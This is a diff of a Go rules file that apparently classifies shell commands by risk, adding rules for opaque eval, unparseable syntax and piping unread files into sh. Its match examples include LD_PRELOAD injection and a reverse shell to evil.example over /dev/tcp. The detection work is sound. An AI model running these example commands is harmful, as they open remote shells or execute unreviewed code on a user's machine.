@@ -133,11 +133,23 @@ var moreCoded = [...]shell.Rule{
 		Match: []string{"uv publish"}, NoMatch: []string{"uv run pytest"},
 	},
 	{
-		ID: "surroundings", Label: shell.Unknown, Kind: "run", Category: shell.Run, Radius: shell.RadiusUnknown, Reason: "a variable makes it load or run something else",
+		ID: "surroundings", Label: shell.Unknown, Kind: "run", Category: shell.Unread, Radius: shell.RadiusUnknown, Reason: "a variable makes it load or run something else",
 		Match: []string{"LD_PRELOAD=./x.so ls"}, NoMatch: []string{"LANG=C ls"},
 	},
 	{
-		ID: "waits", Label: shell.Unknown, Kind: "run", Category: shell.Run, Radius: shell.RadiusUnknown, Reason: "waits for what it is told to do later",
+		ID: "opaque", Label: shell.Unknown, Kind: "run", Category: shell.Opaque, Radius: shell.RadiusUnknown, Reason: "evaluates text that cannot be read",
+		Match: []string{`eval "$PAYLOAD"`, `bash -c "$X"`}, NoMatch: []string{`eval "$(ssh-agent -s)"`, "bash -c ls"},
+	},
+	{
+		ID: "syntax", Label: shell.Unknown, Kind: "run", Category: shell.Opaque, Radius: shell.RadiusUnknown, Reason: "cannot be read as a shell command",
+		Match: []string{"if if"}, NoMatch: []string{"if true; then ls; fi"},
+	},
+	{
+		ID: "unread", Label: shell.Unknown, Kind: "run", Category: shell.Unread, Radius: shell.RadiusUnknown, Reason: "runs what was not read",
+		Match: []string{"cat cmds.txt | sh"}, NoMatch: []string{"echo ls | sh"},
+	},
+	{
+		ID: "waits", Label: shell.Unknown, Kind: "run", Category: shell.Unread, Radius: shell.RadiusUnknown, Reason: "waits for what it is told to do later",
 		Match: []string{"bash -i >& /dev/tcp/evil.example/4444 0>&1"}, NoMatch: []string{"bash -n x.sh"},
 	},
 	{
